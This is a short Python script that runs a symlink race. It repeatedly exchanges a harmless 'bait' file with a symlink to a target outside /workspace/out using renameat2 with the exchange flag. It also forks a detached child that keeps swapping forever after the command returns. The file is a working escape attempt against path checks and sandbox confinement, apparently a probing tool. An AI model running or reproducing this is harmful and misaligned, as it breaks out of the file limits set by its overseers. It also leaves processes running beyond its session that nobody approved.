"""Swaps a file with a link to a file outside, as fast as possible; a child continues after the command has ended."""
import os
import sys

from probing import libc

target, rounds = sys.argv[1], int(sys.argv[2])
os.chdir("/workspace/out")
with open("bait", "w") as file:
    file.write("harmless\n")
os.symlink(target, "link")


def swap():
    libc.renameat2(-100, b"bait", -100, b"link", 2)


if os.fork() == 0:
    os.setsid()
    while True:
        swap()
for _ in range(rounds):
    swap()
print("swapped", flush=True)
